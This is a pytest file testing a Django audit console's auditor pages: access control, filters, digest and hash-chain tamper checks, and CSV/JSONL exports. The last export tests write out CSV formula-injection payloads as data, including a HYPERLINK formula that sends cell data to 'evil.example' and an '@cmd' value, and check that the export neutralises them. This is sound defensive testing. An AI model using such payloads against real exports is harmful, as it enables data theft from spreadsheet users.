"""The auditor's pages: verdict history with filters, one record with its digest checked, "verify chain"
(the same check as `manage.py verify_audit`), and streaming CSV / JSONL exports."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from django.utils import timezone
from review_support import person, signed_in, use_demo_bank

from console import models
from console.demo import review_data
from console.services.review import execution_reject
from console.storage import record_body_digest
from console.web.review_rows import when_text

pytestmark = pytest.mark.django_db

HTMX = {"HTTP_HX_REQUEST": "true"}


@pytest.fixture
def history(db: None, monkeypatch: pytest.MonkeyPatch) -> list[models.Execution]:
    use_demo_bank(monkeypatch)
    alice = review_data.held_transfer()
    bob = review_data.held_transfer(principal="user:bob", amount=20)
    execution_reject(execution_id=bob.pk, reason="no", reviewer=person("carol", "approver"))
    return [alice, bob]


@pytest.fixture
def auditor(db: None) -> Client:
    return signed_in(person("erin", "auditor"))


@pytest.mark.parametrize(
    "path", ["/audit/", "/audit/records/1/", "/audit/verify/", "/audit/export.csv", "/audit/export.jsonl"]
)
def test_audit_pages_need_the_auditor_role(client: Client, db: None, path: str) -> None:
    assert client.get(path).status_code == 302  # signed out: to the login page

    response = signed_in(person("carol", "approver")).get(path)

    assert response.status_code == 403
    assert "This page needs the auditor role" in response.content.decode()


def test_the_history_lists_every_record_newest_first(
    auditor: Client, history: list[models.Execution]
) -> None:
    response = auditor.get("/audit/")

    assert response.status_code == 200
    rows = list(response.context["page"])
    assert [(r["verdict"], r["trigger"]) for r in rows] == [
        ("block", "reject"),
        ("ask", "create"),
        ("ask", "create"),
    ]
    assert "3 records" in response.content.decode()


def test_the_history_filters_by_verdict_principal_tool_date_and_id(
    auditor: Client, history: list[models.Execution]
) -> None:
    def count(**params: str) -> int:
        return auditor.get("/audit/", params).context["page"].paginator.count

    today = timezone.now().date()
    assert count(verdict="block") == 1
    assert count(principal="user:bob") == 2
    assert count(server="bank", tool="transfer_funds") == 3
    assert count(tool="get_balance") == 0
    assert count(date_from=str(today), date_to=str(today)) == 3
    assert count(date_to=str(today - timedelta(days=1))) == 0
    assert count(q=str(history[0].pk)) == 1
    digest = models.PreflightRecord.objects.get(execution=history[0]).record_digest
    assert count(q=digest[7:20]) == 1


def test_an_htmx_filter_answers_with_the_list_only(auditor: Client, history: list[models.Execution]) -> None:
    html = auditor.get("/audit/", {"verdict": "block"}, **HTMX).content.decode()

    assert html.strip().startswith('<div id="records">') and "<html" not in html


def test_a_record_shows_its_json_and_whether_it_still_matches_its_digest(
    auditor: Client, history: list[models.Execution]
) -> None:
    row = models.PreflightRecord.objects.get(execution=history[0])

    page = auditor.get(f"/audit/records/{row.pk}/").content.decode()
    assert row.record_digest in page and 'data-testid="digest-ok"' in page
    assert "&quot;verdict&quot;: &quot;ask&quot;" in page

    # Below the ORM (PreflightRecord refuses updates), as a tamperer would; JSON text works on both databases.
    with connection.cursor() as cursor:
        cursor.execute(
            "UPDATE console_preflightrecord SET record = %s WHERE id = %s",
            [connection.ops.adapt_json_value({**row.record, "verdict": "execute"}, None), row.pk],
        )
    tampered = auditor.get(f"/audit/records/{row.pk}/").content.decode()
    assert "DOES NOT MATCH" in tampered


def test_verify_chain_reports_ok_with_the_head(auditor: Client, history: list[models.Execution]) -> None:
    form = auditor.get("/audit/verify/").content.decode()
    assert "Verify chain</button>" in form and 'data-testid="verify-result"' not in form

    html = auditor.post("/audit/verify/").content.decode()

    head = models.AuditEvent.objects.order_by("-seq").first()
    assert head is not None
    assert "OK" in html and f"head seq <strong>{head.seq}</strong>" in html
    records = models.PreflightRecord.objects.count()
    assert f"{records} records match their digests" in html


def test_verify_chain_names_the_first_broken_link(auditor: Client, history: list[models.Execution]) -> None:
    with connection.cursor() as cursor:
        cursor.execute("UPDATE console_auditevent SET body = '{\"edited\": true}' WHERE seq = 3")

    html = auditor.post("/audit/verify/", **HTMX).content.decode()

    assert html.strip().startswith('<div id="result"')
    assert (
        "BROKEN — audit chain broken at seq 3: content does not match its hash (the row was edited)" in html
    )


def test_the_csv_export_streams_the_filtered_history(
    auditor: Client, history: list[models.Execution]
) -> None:
    response = auditor.get("/audit/export.csv", {"principal": "user:bob"})

    assert response.streaming and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="preflight-records-')
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(r["verdict"], r["principal"], r["tool"]) for r in rows] == [
        ("block", "user:bob", "transfer_funds"),
        ("ask", "user:bob", "transfer_funds"),
    ]
    assert all(r["record_digest"].startswith("sha256:") for r in rows)


def test_the_jsonl_export_carries_records_that_check_against_their_digests(
    auditor: Client, history: list[models.Execution]
) -> None:
    response = auditor.get("/audit/export.jsonl")

    lines = [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]
    assert len(lines) == 3
    for line in lines:
        assert record_body_digest(line["record"]) == line["record_digest"]
    assert {line["execution_id"] for line in lines} == {str(e.pk) for e in history}


def test_a_superuser_holds_every_role(history: list[models.Execution]) -> None:
    root = signed_in(User.objects.create_superuser("root"))

    assert root.get("/audit/").status_code == 200
    assert root.get("/executions/").status_code == 200


def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(
    auditor: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    use_demo_bank(monkeypatch)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    review_data.held_transfer(principal=formula)

    response = auditor.get("/audit/export.csv")

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["principal"] for r in rows] == ["'" + formula]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "\r=1"]


def test_every_export_cell_an_agent_controls_is_neutralised(
    auditor: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    from console.demo.review_data import transfer_request
    from console.services.executions import execution_create

    use_demo_bank(monkeypatch)
    # The principal is the agent's text in the export; server and tool must name an imported tool.
    for formula in FORMULAS:
        execution_create(body=transfer_request(principal=formula), token=None, actor="agent:test")

    response = auditor.get("/audit/export.csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert rows[1:] and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert {r[rows[0].index("principal")] for r in rows[1:]} == {"'" + f for f in FORMULAS}


def test_the_history_and_a_record_write_times_as_the_review_page_does(
    auditor: Client, history: list[models.Execution]
) -> None:
    record = models.PreflightRecord.objects.filter(execution=history[0]).latest("seq")

    listed = auditor.get("/audit/").content.decode()
    shown = auditor.get(f"/audit/records/{record.pk}/").content.decode()

    # One format everywhere: `2026-12-02 10:21:43 UTC`, the zone named.
    at = when_text(record.created_at)
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", at)
    assert f'<td data-label="when">{at}</td>' in listed
    assert f"<dd>{at}, trigger" in shown
